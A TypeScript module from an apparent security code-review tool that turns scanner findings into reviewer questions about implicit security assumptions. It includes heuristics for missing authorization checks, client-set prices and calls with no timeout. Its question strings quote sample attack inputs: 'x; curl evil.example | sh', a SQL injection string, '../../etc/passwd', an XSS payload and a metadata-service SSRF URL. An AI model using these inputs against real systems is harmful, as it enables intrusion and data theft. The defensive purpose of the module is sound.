// Assumption challenge: the implicit security assumptions of a piece of code, each tied to its
// line with the question a reviewer should ask. Built on the engine's findings (one assumption per
// finding, with its own rule's requirement and the source → sink path, so no line cites a rule
// that did not fire), plus the few questions a scanner cannot answer: who may call this, whether
// the client sets the price, and what happens when a call hangs.

import { CLASSES, type RuleClass } from '../protocol/classes';
import type { LanguageId } from '../protocol/languages';
import { blankStrings } from './calls';
import { conceptText } from './concept-text';
import type { Concept } from './concepts';
import type { Knowledge } from './knowledge';

/** A Warden finding as the coach needs it (engine Finding, LSP diagnostic or CLI JSON). */
export interface ChallengeFinding {
  ruleId: string;
  class?: string;
  /** Zero-based line of the finding. */
  line: number;
  /** Source → … → sink, when the finding comes from tracked data (zero-based lines). */
  trace?: Array<{ line: number; label: string }>;
}

export interface Assumption {
  /** Zero-based line in the document. */
  line: number;
  /** "assumes `filename` never contains `../` or an absolute path" */
  assumption: string;
  question: string;
  /** The concept at stake: the finding's class, or a practice for the heuristic questions. */
  concept: Concept;
  /** The rule whose finding this is; absent for the heuristic questions. */
  rule?: string;
  /** The finding rule's requirement, or the concept's sentence for the heuristic questions. */
  requirement?: string;
  /** "`req.query.file` (line 3) → `fs.readFile(p)` (line 7)" */
  path?: string;
}

const code = (s: string): string => `\`${s.length > 60 ? `${s.slice(0, 57)}…` : s}\``;

type Phrase = (subject: string) => [assumption: string, question: string];

const GENERIC: Phrase = (s) => [
  `assumes ${s} is safe to use here`,
  `Where is ${s} checked before it reaches this line?`,
];

const BY_CLASS: Partial<Record<RuleClass, Phrase>> = {
  sqli: (s) => [
    `assumes ${s} never contains SQL syntax such as \`'\` or \`--\``,
    `What happens if ${s} is \`' OR '1'='1\`? Why is this not a parameterized query?`,
  ],
  cmdi: (s) => [
    `assumes ${s} never contains shell syntax or options`,
    `What if ${s} is \`x; curl evil.example | sh\` or starts with \`-\`? Why does this need a shell?`,
  ],
  'code-injection': (s) => [`assumes ${s} is never code an attacker wrote`, `What if ${s} is \`process.exit()\`?`],
  'path-traversal': (s) => [
    `assumes ${s} never contains \`../\` or an absolute path`,
    `What stops ${s} from being \`../../etc/passwd\`, and is the resolved path checked to stay inside the base folder?`,
  ],
  'file-upload': () => [
    'assumes uploaded files are small and of a harmless type',
    'Where are the size limit and the type allow-list enforced? Can an uploaded script be served or run later?',
  ],
  'insecure-cookie': () => [
    'assumes the cookie only travels over HTTPS and no script can read it',
    'Are Secure, HttpOnly and SameSite set? What could a script injected into the page do with it?',
  ],
  'info-leak': (s) => [
    `assumes ${s} reveals nothing to the client`,
    'Could it show file paths, SQL, hosts or versions? Log it server-side and answer with a generic message.',
  ],
  deserialization: (s) => [
    `assumes ${s} comes from a trusted party`,
    'Could an attacker supply these bytes? Native deserializers run code chosen by whoever wrote them.',
  ],
  'weak-crypto': () => [
    'assumes this algorithm still protects the data',
    'Is the algorithm broken (MD5, SHA-1, DES, ECB) or the key too short for what it protects?',
  ],
  'weak-random': () => [
    'assumes this random value cannot be predicted',
    'Is it a token, id or password? A non-cryptographic generator can be predicted.',
  ],
  'tls-verify': () => [
    'assumes nobody sits between this program and the server',
    'Why is certificate verification off? Anyone on the path can read and change the traffic.',
  ],
  xss: (s) => [
    `assumes ${s} contains no HTML or script`,
    `What if ${s} is \`<img src=x onerror=alert(1)>\`? Is it escaped or sanitized first?`,
  ],
  ssrf: (s) => [
    `assumes ${s} points to a trusted host`,
    `Can a client make the server fetch ${s} = \`http://169.254.169.254/\` or an internal service?`,
  ],
  xxe: () => [
    'assumes the XML carries no DTD or external entities',
    'What if the document defines an entity that reads `/etc/passwd`?',
  ],
  'open-redirect': (s) => [
    `assumes ${s} is a local path`,
    `What if ${s} is \`https://evil.example/\`? Is the target checked against an allow-list?`,
  ],
  'hardcoded-secret': () => [
    'assumes this secret stays private although it is in the source',
    'Who can read this repository and its history? Rotate it and load it from the environment.',
  ],
  'type-assertion': (s) => [
    `assumes ${s} is always present and of the asserted type`,
    'What happens when the field is missing or has another type: a panic instead of a 400?',
  ],
  jwt: () => [
    'assumes the token was issued by us',
    'Is the signature verified with a fixed algorithm and are exp, iss and aud checked?',
  ],
  cors: () => [
    'assumes only our own pages call this with credentials',
    'Which origins can read the responses with the user’s cookies?',
  ],
};

function pathOf(f: ChallengeFinding): string | undefined {
  if (!f.trace || f.trace.length < 2) return undefined;
  return f.trace.map((s) => `${code(s.label)} (line ${s.line + 1})`).join(' → ');
}

function fromFinding(f: ChallengeFinding, knowledge: Knowledge): Assumption {
  const rule = knowledge.rule(f.ruleId);
  const cls = (rule?.class ?? f.class ?? f.ruleId.split('/')[1]) as RuleClass;
  const subject = f.trace?.length ? code(f.trace[0].label) : 'this value';
  const [assumption, question] = (BY_CLASS[cls] ?? GENERIC)(subject);
  const path = pathOf(f);
  return {
    line: f.line,
    assumption,
    question,
    concept: cls in CLASSES ? cls : 'input-validation',
    rule: f.ruleId,
    ...(rule?.requirement ? { requirement: rule.requirement } : {}),
    ...(path ? { path } : {}),
  };
}

const HANDLER =
  /@app\.(route|get|post|put|delete|patch)|@router\.\w+|http\.ResponseWriter|\(\s*req\s*,\s*res\b|\bctx\s*\*?gin\.Context|@(Get|Post|Put|Delete|Patch|Request)Mapping|HttpServletRequest|def \w+\(request\b|\bc\.(Param|Query|Bind)\w*\(/;
const AUTH_WORDS =
  /auth|login|session|current_?user|\b(req|request)\.user\b|permission|role|principal|owner|tenant|login_required|requireUser|getUser|isAdmin|can\w*\(|Depends\(/i;
const MONEY_FROM_REQUEST =
  /\b(req|request|body|params|form|query|data|payload|dto|input)\b[^\n]*\b(price|amount|total|cost|discount|quantity|qty|balance|credits?|role|is_?admin)\b/i;
const SLOW_CALL =
  /\brequests\.(get|post|put|delete|request)\(|\bfetch\(|\baxios(\.\w+)?\(|\bhttp\.(Get|Post|Do)\(|\bclient\.Do\(|\burlopen\(|\bHttpClient\b|\bRestTemplate\b|\bsubprocess\.\w+\(|\bexec\.Command\(|\bexecFile\(|\bspawn\(|\bProcessBuilder\b/;

/** The questions no scanner can answer, each asked once, at the first line it concerns. */
function heuristics(lines: string[], start: number, language?: LanguageId): Assumption[] {
  const out: Assumption[] = [];
  const code = lines.map(blankStrings);
  const ask = (index: number, concept: Concept, assumption: string, question: string): void => {
    const requirement = conceptText(concept, language);
    out.push({ line: start + index, assumption, question, concept, ...(requirement ? { requirement } : {}) });
  };
  const handler = lines.findIndex((l) => HANDLER.test(l));
  if (handler >= 0 && !code.some((l) => AUTH_WORDS.test(l)))
    ask(
      handler,
      'authorization',
      'assumes every caller may use this endpoint and act on any record it names',
      'Who may call this? Where is it checked that the caller owns the record or may act on it?',
    );
  const money = lines.findIndex((l) => MONEY_FROM_REQUEST.test(l));
  if (money >= 0)
    ask(
      money,
      'input-validation',
      'assumes the client sends honest prices, amounts, quantities or roles',
      'Could a client change this value? Business values should come from the server, not the request.',
    );
  const slow = lines.findIndex((l) => SLOW_CALL.test(l));
  if (slow >= 0 && !lines.some((l) => /timeout|deadline|context\.With|signal:\s*AbortSignal/i.test(l)))
    ask(
      slow,
      'resource-limits',
      'assumes this call always returns quickly',
      'What happens when it hangs or returns gigabytes? Where are the timeout and the size limit?',
    );
  return out;
}

export interface AssumptionOptions {
  /** Line of the first line of `text` in the document. */
  startLine?: number;
  language?: LanguageId;
}

/** One assumption per Warden finding in the text's lines, then the heuristic questions, by line. */
export function challengeAssumptions(
  text: string,
  findings: readonly ChallengeFinding[],
  knowledge: Knowledge,
  options: AssumptionOptions = {},
): Assumption[] {
  const lines = text.split(/\r\n|\r|\n/);
  const start = options.startLine ?? 0;
  const seen = new Set<string>();
  const out: Assumption[] = [];
  for (const f of findings) {
    if (f.line < start || f.line >= start + lines.length) continue;
    const key = `${f.ruleId}|${f.line}`;
    if (seen.has(key)) continue;
    seen.add(key);
    out.push(fromFinding(f, knowledge));
  }
  out.push(...heuristics(lines, start, options.language));
  return out.sort((a, b) => a.line - b.line);
}

/** Plain-text rendering for the side document and the CLI. */
export function renderAssumptions(items: Assumption[], fileLabel: string): string {
  if (items.length === 0)
    return `# Assumptions in ${fileLabel}\n\nWarden found nothing here and no open question. Still ask: who calls this, with what data?\n`;
  const out = [`# Assumptions in ${fileLabel}`, '', 'Challenge each one before approving the code.', ''];
  for (const a of items) {
    out.push(`- Line ${a.line + 1}: ${a.assumption}${a.rule ? ` (${a.rule})` : ''}`, `  Ask: ${a.question}`);
    if (a.path) out.push(`  Path: ${a.path}`);
    if (a.requirement) out.push(`  Requirement: ${a.requirement}`);
  }
  return out.join('\n') + '\n';
}
